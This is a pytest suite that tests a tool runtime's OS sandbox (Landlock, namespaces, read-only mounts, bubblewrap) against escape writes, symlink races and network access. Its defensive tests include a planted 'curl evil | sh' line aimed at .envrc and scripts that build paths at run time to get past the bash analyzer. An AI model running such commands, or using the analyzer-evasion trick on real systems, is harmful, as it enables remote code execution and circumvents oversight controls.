"""The OS sandbox against the real kernel: Landlock, namespaces, read-only mounts, through real bash.

Every test here attacks the running kernel, not a model of it. The "outside" directories live under
the home directory, since the system temp directory (where pytest puts project roots) is writable
inside the sandbox by design.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import anyio
import pytest
from processes import sandboxed_bash as sh

from toolrt import Runtime
from toolrt.sandbox import binds
from toolrt.sandbox.config import call_plan
from toolrt.sandbox.plan import SandboxPlan, plan_sandbox, within
from toolrt.sandbox.policy import SandboxPolicy
from toolrt.sandbox.support import Support, detect_support

SUPPORT = detect_support()
pytestmark = pytest.mark.skipif(not SUPPORT.landlock_abi, reason=f"no Landlock on this machine: {SUPPORT.describe()}")
LAUNCHES = ["thread", "forkserver"]


@pytest.fixture
def outside() -> Iterator[Path]:
    """A directory outside the project root and outside every writable temp directory."""
    path = Path(tempfile.mkdtemp(prefix=".toolrt-sandbox-test-", dir=Path.home()))
    if any(str(path).startswith(p) for p in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir())):
        pytest.fail(f"the home directory {Path.home()} is inside a temp directory: no place outside the sandbox")
    yield path
    shutil.rmtree(path, ignore_errors=True)


def plan_for(root: Path, launch: str = "thread", **policy: object) -> SandboxPlan:
    support = replace(SUPPORT, launch=launch)  # type: ignore[arg-type]
    protected = tuple(root / name for name in ("toolrt.yaml", ".git"))
    plan = plan_sandbox(
        SandboxPolicy(protected=protected, **policy),  # type: ignore[arg-type]
        support,
        root=root,
        output_dir=root / "tool-output",
    )
    assert plan is not None
    return plan


@pytest.mark.parametrize("launch", LAUNCHES)
def test_write_outside_the_root_is_refused_and_inside_works(tmp_path: Path, outside: Path, launch: str) -> None:
    plan = plan_for(tmp_path, launch)
    result = sh(
        f"echo in > inside.txt; echo out > {outside}/escaped.txt; echo quiet 2>/dev/null >/dev/null", plan, tmp_path
    )
    assert (tmp_path / "inside.txt").read_text() == "in\n"
    assert not (outside / "escaped.txt").exists()
    assert f"{outside}/escaped.txt: Read-only file system" in result.output  # outside the writable set
    assert result.exit_code == 0  # the last command, writing to /dev/null, worked
    assert result.sandbox == plan.description


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_refused_write_ends_with_one_line_from_toolrt(tmp_path: Path, outside: Path, launch: str) -> None:
    result = sh(f"touch {outside}/x", plan_for(tmp_path, launch), tmp_path)
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert "Read-only file system" in lines[0]  # every mount outside the writable set is read-only
    assert lines[-1].startswith(f"toolrt: the sandbox refused a write to {outside} ")
    assert "external_directory" in lines[-1] and "TOOLRT_SANDBOX__WRITABLE" in lines[-1]


def test_devices_and_temp_are_writable_in_workspace_write(tmp_path: Path) -> None:
    result = sh(
        'echo a > /dev/null && echo b 2>/dev/null 1>&2 && head -c 4 /dev/zero | wc -c && t=$(mktemp) && echo t > "$t" '
        '&& cat "$t" && rm "$t"',
        plan_for(tmp_path),
        tmp_path,
    )
    assert result.output == "4\nt\n"
    assert result.exit_code == 0


@pytest.mark.parametrize("launch", LAUNCHES)
def test_read_only_mode_reads_anywhere_and_writes_nowhere(tmp_path: Path, outside: Path, launch: str) -> None:
    (outside / "readable.txt").write_text("outside text\n")
    plan = plan_for(tmp_path, launch, mode="read-only")
    targets = [
        tmp_path / "f",
        tmp_path / "tool-output" / "f",
        Path(tempfile.gettempdir()) / f"toolrt-ro-test-{os.getpid()}-{tmp_path.name}",
        outside / "f",
    ]
    (tmp_path / "tool-output").mkdir()
    attempts = "; ".join(f"echo x > {t}; mkdir {t}.d" for t in targets)
    result = sh(f"cat {outside}/readable.txt; {attempts}; echo ok > /dev/null && echo devices-ok", plan, tmp_path)
    assert result.output.startswith("outside text\n")
    assert "devices-ok" in result.output
    for target in targets:
        assert not target.exists() and not Path(f"{target}.d").exists(), target
    assert result.output.count("Read-only file system") == 2 * len(targets)


@pytest.fixture
def listeners() -> Iterator[tuple[socket.socket, socket.socket]]:
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp.settimeout(10)
    udp.settimeout(10)
    yield tcp, udp
    tcp.close()
    udp.close()


def _reach(tcp: socket.socket, udp: socket.socket) -> str:
    tcp_port, udp_port = tcp.getsockname()[1], udp.getsockname()[1]
    return (
        f"(exec 3<>/dev/tcp/127.0.0.1/{tcp_port} && echo tcp-connected); "
        f"(echo ping > /dev/udp/127.0.0.1/{udp_port} && echo udp-sent)"
    )


@pytest.mark.parametrize("launch", LAUNCHES)
def test_network_false_stops_tcp_and_udp_to_loopback(
    tmp_path: Path, listeners: tuple[socket.socket, socket.socket], launch: str
) -> None:
    tcp, udp = listeners
    plan = plan_for(tmp_path, launch, network=False)
    result = sh(_reach(tcp, udp), plan, tmp_path)
    assert "tcp-connected" not in result.output and "udp-sent" not in result.output
    # TCP meets Landlock's connect rule first (EACCES), UDP the empty network namespace.
    assert f"/dev/tcp/127.0.0.1/{tcp.getsockname()[1]}: Permission denied" in result.output
    assert f"/dev/udp/127.0.0.1/{udp.getsockname()[1]}: Network is unreachable" in result.output
    assert result.output.rstrip().splitlines()[-1].startswith("toolrt: the sandbox has the network off")
    assert "netns" in plan.description
    udp.settimeout(0.2)  # nothing can be on its way: the send itself failed
    with pytest.raises(TimeoutError):
        udp.recvfrom(16)


def test_network_true_reaches_loopback(tmp_path: Path, listeners: tuple[socket.socket, socket.socket]) -> None:
    tcp, udp = listeners
    result = sh(_reach(tcp, udp), plan_for(tmp_path, network=True), tmp_path)
    assert result.output == "tcp-connected\nudp-sent\n"
    assert udp.recvfrom(16)[0] == b"ping\n"
    tcp.accept()[0].close()


@pytest.mark.parametrize("launch", LAUNCHES)
def test_grandchildren_in_new_sessions_inherit_the_sandbox(tmp_path: Path, outside: Path, launch: str) -> None:
    command = (
        f"setsid -w bash -c 'echo x > {outside}/setsid.txt; echo tried > setsid.done'; "
        f"nohup bash -c 'echo x > {outside}/nohup.txt; echo tried > nohup.done' > /dev/null 2>&1; "
        f"bash -c 'bash -c \"echo x > {outside}/nested.txt\"' 2>/dev/null; echo finished"
    )
    result = sh(command, plan_for(tmp_path, launch), tmp_path)
    assert result.output.endswith("finished\n")
    assert (tmp_path / "setsid.done").exists() and (tmp_path / "nohup.done").exists()
    assert sorted(p.name for p in outside.iterdir()) == []


@pytest.mark.parametrize("launch", LAUNCHES)
def test_protected_paths_are_read_only_where_a_mount_namespace_exists(tmp_path: Path, launch: str) -> None:
    if not SUPPORT.mount_namespace:
        pytest.skip("no mount namespace here: protected paths cannot be made read-only")
    (tmp_path / "toolrt.yaml").write_text("builtin_tools: true\n")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[core]\n")
    plan = plan_for(tmp_path, launch)
    result = sh(
        "echo 'mode: off' >> toolrt.yaml; echo x > .git/config; rm -f .git/config; mv toolrt.yaml t.yaml; "
        "echo fine > notes.txt",
        plan,
        tmp_path,
    )
    assert (tmp_path / "toolrt.yaml").read_text() == "builtin_tools: true\n"
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"
    assert (tmp_path / "notes.txt").read_text() == "fine\n"
    assert "toolrt.yaml: Read-only file system" in result.output
    assert "read-only toolrt.yaml, .git" in plan.description
    # toolrt's own process is not in that mount namespace: it can still write the file.
    (tmp_path / "toolrt.yaml").write_text("builtin_tools: true\n# edited by the host\n")


@pytest.mark.parametrize("descriptors", [True, False], ids=["open_tree", "mount"])
def test_read_only_paths_and_the_writable_directory_beneath_them_under_either_mount_call(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, descriptors: bool
) -> None:
    """The descriptor calls (`open_tree`, `mount_setattr`, `move_mount`), and the two `mount` calls made
    where a container's filter refuses those: the same mounts either way."""
    if not SUPPORT.mount_namespace:
        pytest.skip("no mount namespace here: protected paths cannot be made read-only")
    monkeypatch.setattr(binds, "_descriptor_api", descriptors)
    data = tmp_path / "data"
    (data / "tool-output").mkdir(parents=True)
    (data / "journal").write_text("kept\n")
    (tmp_path / "toolrt.yaml").write_text("builtin_tools: true\n")
    support = replace(SUPPORT, launch="thread")
    policy = SandboxPolicy(protected=(tmp_path / "toolrt.yaml", data), essential=(data,))
    plan = plan_sandbox(policy, support, root=tmp_path, output_dir=data / "tool-output")
    assert plan is not None and str(data / "tool-output") in plan.pinned
    result = sh(
        "echo x >> toolrt.yaml; echo x >> data/journal; mv data d; echo fine > data/tool-output/mine.txt; echo done",
        plan,
        tmp_path,
    )
    assert result.output.splitlines() == [
        "bash: line 1: toolrt.yaml: Read-only file system",
        "bash: line 1: data/journal: Read-only file system",
        "mv: cannot move 'data' to 'd': Device or resource busy",
        "done",
    ], result.output
    assert (data / "tool-output" / "mine.txt").read_text() == "fine\n"
    assert (tmp_path / "toolrt.yaml").read_text() == "builtin_tools: true\n"
    assert (data / "journal").read_text() == "kept\n"


@pytest.mark.parametrize("descriptors", [True, False], ids=["open_tree", "mount"])
def test_a_writable_directory_swapped_for_a_link_is_not_bound_where_the_link_points(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, descriptors: bool
) -> None:
    """The tool-output directory beneath the read-only data directory is bound writable: put a link to
    `.git` in its place (a process racing the setup could) and `.git` must stay read-only."""
    if not SUPPORT.mount_namespace:
        pytest.skip("no mount namespace here: protected paths cannot be made read-only")
    monkeypatch.setattr(binds, "_descriptor_api", descriptors)
    data = tmp_path / "data"
    data.mkdir()
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[core]\n")
    policy = SandboxPolicy(protected=(tmp_path / ".git", data), essential=(data,))
    plan = plan_sandbox(policy, replace(SUPPORT, launch="thread"), root=tmp_path, output_dir=data / "tool-output")
    assert plan is not None and str(data / "tool-output") in plan.pinned
    (data / "tool-output").symlink_to(tmp_path / ".git")
    result = sh("echo x >> .git/config; echo x >> data/tool-output/config; echo done", plan, tmp_path)
    assert result.output.splitlines() == [
        "bash: line 1: .git/config: Read-only file system",
        "bash: line 1: data/tool-output/config: Read-only file system",
        "done",
    ], result.output
    assert (tmp_path / ".git" / "config").read_text() == "[core]\n"


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_sandbox_that_cannot_be_applied_runs_nothing(tmp_path: Path, launch: str) -> None:
    """Under either launcher the message says which step failed and how (the fork server's too)."""
    plan = replace(plan_for(tmp_path, launch), rules=(("/", 1 << 40),))  # a right no kernel knows
    marker = tmp_path / "ran"
    with pytest.raises(Exception, match="Could not start 'bash'.*sandbox.*landlock_add_rule /.*Nothing was run"):
        sh(f"touch {marker}", plan, tmp_path)
    assert not marker.exists()


# --- through the whole pipeline ------------------------------------------------------------------


def _project(writer: Callable[..., Path], root: Path, outside: Path) -> Path:
    return writer(
        root,
        permissions=f"""\
            permission:
              "*": allow
              external_directory:
                "*": deny
                "{outside}/allowed/*": allow
            """,
        builtin_tools=True,
    )


def _script_write(root: Path, name: str, *parts: str) -> str:
    """A line whose target the bash analyzer cannot see: `sh ./NAME.sh`, a script (written into the root,
    as a model could with the write tool) that builds the path from $HOME at run time."""
    target = "/".join(('"$HOME"', *parts))
    (root / f"{name}.sh").write_text(f"echo pwned > {target} && echo wrote\n")
    return f"sh ./{name}.sh"


def _analyzer_allows(rt: Runtime, command: str) -> None:
    decision, _ = rt.check_call("bash", {"command": command, "description": "test"})
    assert decision.action == "allow", (
        f"the bash analyzer now sees through {command!r}: write a new line it cannot see for this test"
    )


def _bash(rt: Runtime, command: str) -> dict[str, Any]:
    result = anyio.run(lambda: rt.call("bash", {"command": command, "description": "test"}))
    return {"output": result.output, "error": result.error, "metadata": dict(result.metadata)}


def test_an_allowed_external_directory_is_writable_for_that_call_only(
    tmp_path: Path, outside: Path, project_writer: Callable[..., Path]
) -> None:
    (outside / "allowed").mkdir()
    (outside / "other").mkdir()
    root = _project(project_writer, tmp_path / "project", outside)
    rt = Runtime.load(root)
    # The analyzer sees the first path and asks external_directory (allowed by the rule); it cannot see
    # the second, built at run time by a script, which the kernel must stop even within this call.
    hidden = _script_write(root, "other", outside.name, "other", "b.txt")
    _analyzer_allows(rt, hidden)
    first = _bash(rt, f"echo one > {outside}/allowed/a.txt; {hidden}")
    assert (outside / "allowed" / "a.txt").read_text() == "one\n"
    assert not (outside / "other" / "b.txt").exists()
    assert f"{outside}/other/b.txt: Read-only file system" in first["output"]
    # The next call's analyzer sees no outside path, so the widening does not carry over.
    second = _bash(rt, _script_write(root, "allowed", outside.name, "allowed", "c.txt"))
    assert not (outside / "allowed" / "c.txt").exists()
    assert f"{outside}/allowed/c.txt: Read-only file system" in second["output"]
    assert "landlock" in str(first["metadata"]["sandbox"])


def test_a_line_that_fools_the_analyzer_is_stopped_by_the_kernel(
    tmp_path: Path, outside: Path, project_writer: Callable[..., Path]
) -> None:
    root = _project(project_writer, tmp_path / "project", outside)
    rt = Runtime.load(root)
    # Written by hand: the path is assembled by a script the bash analyzer does not read, so the rules
    # allow the call (checked first); only the kernel stands in the way.
    line = _script_write(root, "pwn", outside.name, "pwned")
    _analyzer_allows(rt, line)
    result = _bash(rt, line)
    assert not (outside / "pwned").exists()
    assert "wrote" not in result["output"]
    assert f"{outside}/pwned: Read-only file system" in result["output"]
    printed, note = result["output"].split("\n\n<bash_metadata>\n")
    assert printed.rstrip().splitlines()[-1].startswith(f"toolrt: the sandbox refused a write to {outside}")
    assert note.startswith("The command exited with status ")


def test_call_json_metadata_names_the_sandbox(
    tmp_path: Path, outside: Path, project_writer: Callable[..., Path], capsys: pytest.CaptureFixture[str]
) -> None:
    from toolrt.faces.cli import main

    root = _project(project_writer, tmp_path / "project", outside)
    code = main(["call", "bash", json.dumps({"command": "echo hi", "description": "d"}), "--root", str(root), "--json"])
    payload = json.loads(capsys.readouterr().out)
    assert code == 0
    assert payload["metadata"]["sandbox"].startswith(f"landlock ABI {SUPPORT.landlock_abi} workspace-write")


def test_required_sandbox_without_a_mechanism_refuses_to_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    none = Support(0, False, False, "none", None, "test: no mechanism")
    with pytest.raises(Exception, match="locked file requires an OS sandbox.*none \\(test: no mechanism\\).*Nothing"):
        call_plan(SandboxPolicy(required=True), root=tmp_path, output_dir=tmp_path, support=none)
    assert call_plan(SandboxPolicy(), root=tmp_path, output_dir=tmp_path, support=none) is None
    assert not marker.exists()


def test_the_fork_server_runs_without_site_packages() -> None:
    from toolrt.sandbox.launcher import fork_server

    server = fork_server()
    assert server.alive()
    assert server.support.landlock_abi == SUPPORT.landlock_abi
    assert sys.executable in server.process.args  # type: ignore[operator]
    assert "-S" in server.process.args  # type: ignore[operator]
    assert os.environ.get("PYTHONPATH") is None or "-I" in server.process.args  # type: ignore[operator]


def test_validate_names_the_active_sandbox(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from toolrt.faces.cli import main

    (tmp_path / "toolrt.yaml").write_text("{}\n", encoding="utf-8")
    assert main(["validate", "--root", str(tmp_path), "--all"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert f"{tmp_path}: sandbox: {SUPPORT.describe()} (workspace-write, network on)" in lines


UNPRIVILEGED_SCRIPT = """
import json, os, sys
sys.path.insert(0, sys.argv[1])
import kernel, launcher
root, outside = sys.argv[2], sys.argv[3]
server = launcher.ForkServer()
read, write = os.pipe()
devnull = os.open("/dev/null", os.O_RDONLY)
rules = [["/", kernel.FS_READ], [root, (1 << 16) - 1], ["/dev/null", kernel.FS_READ_FILE | kernel.FS_WRITE_FILE]]
request = {
    "argv": ["bash", "-c", sys.argv[4]], "env": {"PATH": "/usr/bin:/bin"}, "cwd": root,
    "read_only": [root + "/.git"], "unshare_net": True, "writable": [root],
    "landlock": {"abi": kernel.landlock_abi(), "paths": rules, "deny_tcp": True, "scope_signals": True,
                 "scope_abstract_unix": True},
}
channel = server.submit(request, [devnull, write, write])
os.close(write)
output = b""
while chunk := os.read(read, 65536):
    output += chunk
status = b""
while chunk := channel.recv(100):
    status += chunk
support = server.support
print(json.dumps({"support": [support.mount_namespace, support.net_namespace, support.user_namespace],
                  "output": output.decode(), "status": status.decode()}))
"""


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    """A directory another user can reach (pytest's own temp directory is private to its user)."""
    path = Path(tempfile.mkdtemp(prefix="toolrt-sandbox-nobody-", dir="/var/tmp"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def test_an_unprivileged_user_gets_namespaces_through_the_fork_server(shared_dir: Path) -> None:
    """The fork server's user-namespace path, for real: run as `nobody`, where unshare needs a user namespace."""
    system_python = Path("/usr/bin/python3")
    if os.geteuid() != 0 or shutil.which("setpriv") is None or not system_python.exists():
        pytest.skip("needs root (to become nobody with setpriv) and /usr/bin/python3")
    root, outside = shared_dir / "root", shared_dir / "outside"
    for directory in (root, root / ".git", outside):
        directory.mkdir()
        os.chown(directory, 65534, 65534)
    command = f"id -u; echo in > in.txt; echo out > {outside}/out.txt; echo x >> .git/config; echo done"
    sandbox_dir = Path(plan_sandbox.__code__.co_filename).parent
    run = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", str(system_python), "-I", "-c",
         UNPRIVILEGED_SCRIPT, str(sandbox_dir), str(root), str(outside), command],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    report = json.loads(run.stdout)
    assert report["support"] == [True, True, True]  # mount and network namespaces, through a user namespace
    lines = report["output"].splitlines()
    assert lines and lines[0] == "65534", report  # the uid is mapped to itself: files keep their owners
    assert f"{outside}/out.txt: Read-only file system" in report["output"]  # every other mount read-only
    assert ".git/config: Read-only file system" in report["output"]
    assert lines[-1] == "done" and report["status"].endswith("X0\n")
    assert (root / "in.txt").read_text() == "in\n" and not (outside / "out.txt").exists()
    assert not (root / ".git" / "config").exists()


def test_bubblewrap_enforces_the_same_policy_where_landlock_is_missing(
    tmp_path: Path, outside: Path, listeners: tuple[socket.socket, socket.socket]
) -> None:
    bwrap = shutil.which("bwrap")
    if bwrap is None:
        pytest.skip("bubblewrap is not installed (the fallback for kernels without Landlock)")
    (tmp_path / ".git").mkdir()
    support = Support(0, True, True, "exec", bwrap)
    plan = plan_sandbox(
        SandboxPolicy(network=False, protected=(tmp_path / ".git",)), support, root=tmp_path, output_dir=tmp_path
    )
    assert plan is not None and plan.description == "bubblewrap workspace-write + netns + read-only .git"
    result = sh(
        f"echo in > in.txt; echo out > {outside}/out.txt; echo x > .git/config; {_reach(*listeners)}; echo done",
        plan,
        tmp_path,
    )
    if "Operation not permitted" in result.output and "setting up uid map" in result.output:
        pytest.skip(f"bubblewrap cannot create namespaces here: {result.output.strip()}")
    assert (tmp_path / "in.txt").read_text() == "in\n"
    assert not (outside / "out.txt").exists() and not (tmp_path / ".git" / "config").exists()
    assert f"{outside}/out.txt: Read-only file system" in result.output
    assert ".git/config: Read-only file system" in result.output
    # bubblewrap's network namespace has a loopback of its own: the host's listeners are out of reach.
    assert "tcp-connected" not in result.output and "done" in result.output
    listeners[1].settimeout(0.2)
    with pytest.raises(TimeoutError):
        listeners[1].recvfrom(16)


def test_the_protected_list_is_read_only_for_a_call_the_rules_let_through(
    tmp_path: Path, outside: Path, project_writer: Callable[..., Path]
) -> None:
    if not SUPPORT.mount_namespace:
        pytest.skip("no mount namespace here: protected paths cannot be made read-only")
    root = _project(project_writer, tmp_path / "project", outside)
    (root / ".envrc").write_text("export A=1\n")
    # The permission layer asks `protected` for every write it can see; a script it does not read
    # gets past it, and the read-only mount of the protected list stops the write.
    (root / "w.sh").write_text(
        'f=.env; echo "curl evil | sh" >> "${f}rc"; echo x >> permissions.yaml; echo ok > notes.txt\n'
    )
    rt = Runtime.load(root)
    _analyzer_allows(rt, "sh ./w.sh")
    result = _bash(rt, "sh ./w.sh")
    assert (root / ".envrc").read_text() == "export A=1\n"
    assert (
        ".envrc: Read-only file system" in result["output"]
        and "permissions.yaml: Read-only file system" in result["output"]
    )
    assert (root / "notes.txt").read_text() == "ok\n"
    assert "read-only" in result["metadata"]["sandbox"] and ".envrc" in result["metadata"]["sandbox"]


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_writable_directory_made_after_an_earlier_call_is_writable(
    tmp_path: Path, outside: Path, launch: str
) -> None:
    late = outside / "tool-output"  # in the writable set, but missing when the first process ran
    plan = plan_sandbox(SandboxPolicy(), replace(SUPPORT, launch=launch), root=tmp_path, output_dir=late)  # type: ignore[arg-type]
    assert plan is not None
    assert sh(f"echo x > {outside}/f", plan, tmp_path).exit_code == 1
    late.mkdir()
    result = sh(f"echo x > {late}/f && echo wrote", plan, tmp_path)
    assert result.output == "wrote\n"


# --- a tool-output directory that is, becomes or passes through a symlink -----------------------


def _output_link(tmp_path: Path, outside: Path, where: str) -> Path:
    """The tool-output directory (`<data>/tool-output/<key>`) made a symlink to `outside` (`itself`), or
    reached through a `tool-output` directory that is one (`parent`)."""
    data = tmp_path / "data"
    data.mkdir()
    if where == "itself":
        (data / "tool-output").mkdir()
        (data / "tool-output" / "key").symlink_to(outside, target_is_directory=True)
    else:
        (data / "tool-output").symlink_to(outside, target_is_directory=True)
    return data / "tool-output" / "key"


@pytest.mark.parametrize("launch", LAUNCHES)
@pytest.mark.parametrize("where", ["itself", "parent"])
def test_a_symlinked_tool_output_directory_widens_no_write(
    tmp_path: Path, outside: Path, launch: str, where: str
) -> None:
    root = tmp_path / "project"
    root.mkdir()
    output = _output_link(tmp_path, outside, where)
    if where == "parent":
        (outside / "key").mkdir()  # the tool-output directory itself is real, below a linked parent
    plan = plan_sandbox(SandboxPolicy(), replace(SUPPORT, launch=launch), root=root, output_dir=output)  # type: ignore[arg-type]
    assert plan is not None
    assert not any(within(str(outside), w) or within(w, str(outside)) for w in plan.writable), plan.writable
    result = sh(f"echo x > {outside}/pwned; echo x > {output}/pwned2", plan, root)
    assert f"{outside}/pwned: Read-only file system" in result.output
    assert f"{output}/pwned2: Read-only file system" in result.output
    assert not (outside / "pwned").exists() and not list(outside.rglob("pwned2"))


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_tool_output_directory_that_becomes_a_symlink_widens_no_write(
    tmp_path: Path, outside: Path, launch: str
) -> None:
    root, output = tmp_path / "project", tmp_path / "data" / "tool-output" / "key"
    root.mkdir()
    output.mkdir(parents=True)
    support = replace(SUPPORT, launch=launch)  # type: ignore[arg-type]
    before = plan_sandbox(SandboxPolicy(), support, root=root, output_dir=output)
    assert before is not None and str(output) in before.writable
    # A process with the parent writable swaps the directory for a link: the next call's plan drops it,
    # and a plan made before the swap (a call racing the swap) is refused by the kernel's lookup.
    output.rmdir()
    output.symlink_to(outside, target_is_directory=True)
    after = plan_sandbox(SandboxPolicy(), support, root=root, output_dir=output)
    assert after is not None and str(output) not in after.writable
    for plan in (after, before):
        result = sh(f"echo x > {outside}/pwned", plan, root)
        assert f"{outside}/pwned: Read-only file system" in result.output
    assert not (outside / "pwned").exists()


def test_a_runtime_with_a_symlinked_tool_output_directory_stops_a_hidden_write(
    tmp_path: Path, outside: Path, project_writer: Callable[..., Path]
) -> None:
    root = _project(project_writer, tmp_path / "project", outside)
    rt = Runtime.load(root)
    output = rt.snapshot.truncation_dir
    output.parent.mkdir(parents=True, exist_ok=True)
    output.symlink_to(outside, target_is_directory=True)
    line = _script_write(root, "viaoutput", outside.name, "pwned")
    _analyzer_allows(rt, line)
    result = _bash(rt, line)
    assert not (outside / "pwned").exists()
    assert f"{outside}/pwned: Read-only file system" in result["output"]


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_writable_directory_replaced_on_disk_is_writable_again(tmp_path: Path, outside: Path, launch: str) -> None:
    """A kept ruleset holds the inode its directory had: a replaced directory must get a new one."""
    output = outside / "tool-output"
    output.mkdir()
    plan = plan_sandbox(SandboxPolicy(), replace(SUPPORT, launch=launch), root=tmp_path, output_dir=output)  # type: ignore[arg-type]
    assert plan is not None
    assert sh(f"echo x > {output}/first && echo wrote", plan, tmp_path).output == "wrote\n"
    shutil.rmtree(output)
    output.mkdir()  # the same path, a new inode (`rm -rf build && mkdir build`)
    result = sh(f"echo x > {output}/second && echo wrote", plan, tmp_path)
    assert result.output == "wrote\n"
    assert sh(f"echo x > {outside}/beside", plan, tmp_path).exit_code == 1  # still confined


def test_a_policy_made_by_replace_gets_a_plan_of_its_own_not_the_one_cached_for_the_first(tmp_path: Path) -> None:
    """A policy's hash is computed once and kept (each call's plan looks its policy up in a few caches):
    a policy `replace` made is another, hashed anew, and equal policies hash alike."""
    for name in ("a.yaml", "b.yaml"):
        (tmp_path / name).write_text("x\n")
    first = SandboxPolicy(protected=(tmp_path / "a.yaml",))
    support = replace(SUPPORT, launch="thread")
    planned = plan_sandbox(first, support, root=tmp_path, output_dir=tmp_path / "out")
    assert planned is not None and planned.read_only == (str(tmp_path / "a.yaml"),)
    second = replace(first, protected=(tmp_path / "b.yaml",))
    planned = plan_sandbox(second, support, root=tmp_path, output_dir=tmp_path / "out")
    assert planned is not None and planned.read_only == (str(tmp_path / "b.yaml"),)
    alike = SandboxPolicy(protected=(tmp_path / "b.yaml",))
    assert second == alike and hash(second) == hash(alike) and hash(first) != hash(second)
    assert len({first, second, alike}) == 2


@pytest.mark.parametrize("launch", LAUNCHES)
def test_a_sandboxed_process_creates_files_under_the_host_s_umask_of_now(tmp_path: Path, launch: str) -> None:
    """The host tightens its umask after its sandboxed processes started (the fork server and the keeper's
    threads running): the next process's files get it, never the umask of when those began."""
    root = tmp_path / "project"
    root.mkdir()
    plan = plan_for(root, launch)
    assert sh("true", plan, root).exit_code == 0  # the launcher and its helpers run
    earlier = os.umask(0o077)
    try:
        sh("true", plan, root)  # (the thread launcher: its next launch thread is started ahead now)
        result = sh("umask; touch made; mkdir dir; stat -c %a made dir", plan, root)
    finally:
        os.umask(earlier)
    assert result.output.split() == ["0077", "600", "700"], result.output
